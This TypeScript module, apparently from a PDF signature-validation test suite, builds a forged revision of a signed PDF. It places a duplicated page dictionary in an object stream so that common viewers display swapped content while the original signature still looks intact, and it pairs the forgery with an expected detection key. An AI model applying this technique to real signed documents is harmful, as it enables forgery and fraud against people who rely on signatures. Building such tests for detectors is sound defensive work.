/**
 * Family 3: an object stream that holds the page dictionary twice. The first copy is the signed
 * page, the second (the one the xref entry's index names, which poppler and MuPDF use) points to
 * new content. A reader that keeps the first copy sees no change (ISO 32000-1 §7.5.7, §7.5.8.3).
 */
import { appendObjectStreamRevision, readPdf } from '../incremental-writer.js';
import { attackedContent, firstPage } from '../samples.js';
import type { AttackFamily } from './family.js';

export const objstmDuplicate: AttackFamily = {
  name: 'object stream with the page twice',
  expectedKey: 'PDF_OBJSTM_DUPLICATE_OBJECT',
  shows: 'text',
  build(signed) {
    const page = firstPage(signed);
    const raw = readPdf(signed);
    const d = raw.object(page.num) as unknown as { start: number; end: number };
    const signedPage = signed.toString('latin1', d.start, d.end);
    const body = signedPage.slice(signedPage.indexOf('<<'), signedPage.lastIndexOf('>>') + 2);
    const n = 9100;
    const evil = body.replace(/\/Contents\s*(\[[^\]]*\]|\d+\s+\d+\s+R)/, `/Contents ${n} 0 R`);
    if (evil === body) throw new Error('page has no single /Contents reference');
    return appendObjectStreamRevision(signed, {
      stream: n + 1,
      members: [
        { num: page.num, body },
        { num: page.num, body: evil },
      ],
      indexOf: { [page.num]: 1 },
      objects: { [n]: attackedContent(signed) },
    });
  },
};
